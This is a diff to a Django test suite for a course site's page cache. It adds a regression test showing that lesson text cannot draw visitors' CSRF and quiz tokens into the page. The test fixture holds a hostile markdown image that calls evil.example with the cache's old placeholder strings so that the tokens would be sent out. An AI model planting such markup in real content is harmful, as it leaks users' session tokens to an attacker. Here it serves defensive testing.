@@ -11,9 +11,11 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
+from courses.caching import page_slot
 from courses.importer import import_content
 from courses.models import Lesson
 from quizzes.models import Attempt
+from quizzes.services import option_value, read_token
 from tests.factories import make_tree, make_user
 
 pytestmark = pytest.mark.django_db
@@ -37,7 +39,8 @@ def test_a_cached_anonymous_lesson_page_costs_no_query(client, lesson):
     with CaptureQueriesContext(connection) as queries:
         response = client.get(URL)
     assert response.status_code == 200 and len(queries.captured_queries) == 0
-    assert "GLASSBOX" not in response.content.decode()  # no placeholder left behind
+    html = response.content.decode()
+    assert page_slot("csrf") not in html and page_slot("quiz-token") not in html  # all filled
 
 
 def test_every_cached_page_carries_a_fresh_quiz_token_and_a_working_csrf_token(lesson):
@@ -47,7 +50,7 @@ def test_every_cached_page_carries_a_fresh_quiz_token_and_a_working_csrf_token(l
     assert len(tokens) == 6
     page = pages[-1]
     csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)[1]
-    shown = re.findall(r'name="(q\d+)" value="(\d+)"', page)
+    shown = re.findall(r'name="(q\d+)" value="([0-9a-f]{16})"', page)
     answers = {}
     for name, value in shown:
         answers.setdefault(name, []).append(value)
@@ -55,7 +58,8 @@ def test_every_cached_page_carries_a_fresh_quiz_token_and_a_working_csrf_token(l
     data.update({name: values[:1] for name, values in answers.items()})
     assert browser.post(f"{URL}quiz/", data).status_code == 303
     snapshot = Attempt.objects.get().snapshot
-    first_question_order = [str(option["id"]) for option in snapshot[0]["options"]]
+    seed = read_token(token_of(page)).seed
+    first_question_order = [option_value(seed, option["id"]) for option in snapshot[0]["options"]]
     assert first_question_order == answers[f"q{snapshot[0]['question']}"]  # what the page showed
 
 
@@ -125,3 +129,42 @@ def test_another_process_import_is_seen_within_the_refresh_interval(lesson, monk
     assert caching.content_version() == before  # still remembered
     time.sleep(0.06)
     assert caching.content_version() != before
+
+
+HOSTILE_BODY = """\
+## Tokens
+Here are GLASSBOXCSRFSLOT and GLASSBOXQUIZTOKENSLOT in plain text.
+
+![pixel](https://evil.example/p.png?c=GLASSBOXCSRFSLOT&t=GLASSBOXQUIZTOKENSLOT)
+
+## Quiz
+1. Which?
+   - [x] This
+   - [ ] That
+"""
+
+
+@pytest.mark.parametrize("signed_in", [False, True])
+def test_lesson_text_cannot_pull_visitors_tokens_into_the_page(content_root, signed_in):
+    """Issue #16, finding 5: a lesson holding the page cache's old placeholder strings."""
+    from tests.factories import write_course, write_lesson
+
+    write_course(content_root)
+    write_lesson(content_root, name="01-lesson-1.md", title="Lesson 1", body=HOSTILE_BODY)
+    import_content(content_root)
+    browser = Client()
+    if signed_in:
+        browser.force_login(make_user())
+    for _ in range(6):  # cached variants too
+        html = browser.get(URL).content.decode()
+        for csrf in re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html):
+            # only in its forms' inputs, nowhere in the lesson text
+            assert html.count(csrf) == html.count(f'name="csrfmiddlewaretoken" value="{csrf}"')
+        assert html.count(token_of(html)) == 1
+        assert "https://evil.example/p.png?c=GLASSBOXCSRFSLOT&amp;t=GLASSBOXQUIZTOKENSLOT" in html
+
+
+def test_the_placeholders_depend_on_the_secret_key(settings):
+    first = page_slot("csrf")
+    settings.SECRET_KEY = "another-secret-key-" + "y" * 40
+    assert page_slot("csrf") != first and len(first) > 40
